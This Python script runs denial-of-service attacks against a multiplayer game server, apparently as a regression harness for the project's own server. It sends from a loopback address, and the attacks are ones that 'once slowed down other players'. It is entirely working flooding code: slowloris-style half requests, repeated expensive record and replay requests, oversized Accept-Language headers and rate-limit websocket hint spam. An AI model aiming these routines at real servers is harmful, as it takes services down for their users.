"""Attacks on a server at full speed: `attacks.py NAME HOST:PORT JSON` runs one until it is killed.

They are those that once slowed down other players. The JSON has what an attack needs: a table with a long
game, or tables with the tokens of their seats. All traffic comes from ADDRESS, which is not a trusted proxy.
A line is printed once the attack has begun.
"""

import http.client
import json
import resource
import socket
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

from websockets.exceptions import WebSocketException
from websockets.sync.client import connect

ADDRESS = "127.0.0.2"
LONGEST = 600.0  # seconds, in case nobody kills it
HALF_REQUESTS = 1150
HINT_SECONDS = 0.21  # between two hints of a socket: just within its limit

Server = tuple[str, int]
Needs = dict[str, Any]


def request(server: Server, path: str, headers: dict[str, str] | None = None) -> None:
    """Request a path over one connection again and again, until it is closed."""
    connection = http.client.HTTPConnection(*server, timeout=10, source_address=(ADDRESS, 0))
    try:
        while True:
            connection.request("GET", path, headers=headers or {})
            connection.getresponse().read()
    finally:
        connection.close()


def schema(server: Server, needs: Needs) -> None:
    """Request the schema of all frames (row 1)."""
    request(server, "/api/frames")


def record(server: Server, needs: Needs) -> None:
    """Request the record of a long game (row 2)."""
    request(server, f"/api/tables/{needs['long_game']}/record")


def languages(server: Server, needs: Needs) -> None:
    """Request a page with a very long list of languages (row 10)."""
    request(server, "/", {"Accept-Language": "x," * 7500})


def replay(server: Server, needs: Needs) -> None:
    """Request the replay of a long game (row 12)."""
    request(server, f"/api/tables/{needs['long_game']}/replay")


def half_request(server: Server, needs: Needs) -> None:
    """Send the first half of a request, and wait until the server closes the connection (row 5)."""
    with socket.create_connection(server, 10, (ADDRESS, 0)) as one:
        one.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        one.settimeout(LONGEST)
        one.recv(1)


def hints(server: Server, needs: Needs) -> None:
    """Ask for a hint as often as a socket may (row 14)."""
    game, tokens = needs["tables"].pop()
    needs["tables"].insert(0, (game, tokens))
    source = socket.create_connection(server, 10, (ADDRESS, 0))
    with connect(f"ws://{server[0]}:{server[1]}/api/tables/{game}/socket", sock=source) as one:
        one.send(json.dumps({"v": 1, "id": "a", "game": game, "type": "hello", "tokens": tokens}))
        view = json.loads(one.recv())
        asked = {"v": 1, "id": "b", "game": game, "ply": view["ply"], "type": "hint"}
        while True:
            one.send(json.dumps({**asked, "seat": view["view"]["turn"]}))
            time.sleep(HINT_SECONDS)


# Each attack with the number of threads that repeat it.
ATTACKS: dict[str, tuple[Callable[[Server, Needs], None], int]] = {
    "schema": (schema, 6),
    "record": (record, 8),
    "languages": (languages, 6),
    "replay": (replay, 8),
    "hints": (hints, 48),
    "half requests": (half_request, HALF_REQUESTS),
}


def main() -> None:
    """Run the attack."""
    attack, threads = ATTACKS[sys.argv[1]]
    host, _, port = sys.argv[2].partition(":")
    needs = json.loads(sys.argv[3])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    threading.stack_size(256 * 1024)

    def repeat() -> None:
        while True:
            try:
                attack((host, int(port)), needs)
            except (OSError, http.client.HTTPException, WebSocketException):
                time.sleep(0.01)

    for _ in range(threads):
        threading.Thread(target=repeat, daemon=True).start()
    print("begun", flush=True)
    time.sleep(LONGEST)


if __name__ == "__main__":
    main()
